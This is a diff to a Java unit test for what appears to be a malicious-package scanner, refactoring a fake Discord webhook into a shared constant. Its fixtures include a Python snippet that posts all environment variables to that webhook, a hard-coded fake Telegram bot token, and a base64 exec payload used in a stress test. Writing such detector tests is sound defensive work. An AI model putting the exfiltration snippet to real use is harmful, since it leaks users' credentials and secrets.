@@ -28,6 +28,10 @@ import org.junit.jupiter.api.Test;
 
 class ContentRuleTest {
 
+  /** A webhook as stealers hard-code it: its id and token written in (not a real one). */
+  private static final String WEBHOOK =
+      "https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789";
+
   private final ContentRule rule = new ContentRule();
 
   private List<Finding> check(String project, Map<String, ?> parameters,
@@ -209,11 +213,11 @@ class ContentRuleTest {
       String hidden = """
           import os, requests
           URL = (
-              "https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789"
+              "%s"
           )
           for k, v in os.environ.items():
               requests.post(URL, data=k + v)
-          """;
+          """.formatted(WEBHOOK);
 
       assertThat(check(wheelWith("pkg/x.py", hidden))).extracting(Finding::level)
           .contains(RiskLevel.CRITICAL);
@@ -276,7 +280,8 @@ class ContentRuleTest {
     void aChatApiAddressWithoutACredentialIsNotADropBox() {
       String api = "API = 'https://api.telegram.org/bot'\n"
           + "def send(token, chat, text):\n    return requests.post(f'{API}{token}/sendMessage')\n";
-      String stolen = "URL = 'https://api.telegram.org/bot5012345678:AAH-sample-token-not-real-xyz'\n";
+      String stolen =
+          "URL = 'https://api.telegram.org/bot5012345678:AAH-sample-token-not-real-xyz'\n";
 
       assertThat(check(wheelWith("tqdm/contrib/telegram.py", api))).isEmpty();
       assertThat(check(wheelWith("pkg/x.py", stolen))).extracting(Finding::level)
@@ -369,7 +374,7 @@ class ContentRuleTest {
     String quotes = "'a' ".repeat(500_000);
     String oneLongLine = "x = \"" + "A".repeat(3_000_000) + "\"\neval(x)\n";
     String unclosed = "'''" + "exec(base64.b64decode(p))\n".repeat(100_000);
-    String nested = "(".repeat(1_000_000) + "'https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789'";
+    String nested = "(".repeat(1_000_000) + "'" + WEBHOOK + "'";
 
     org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(60),
         () -> {
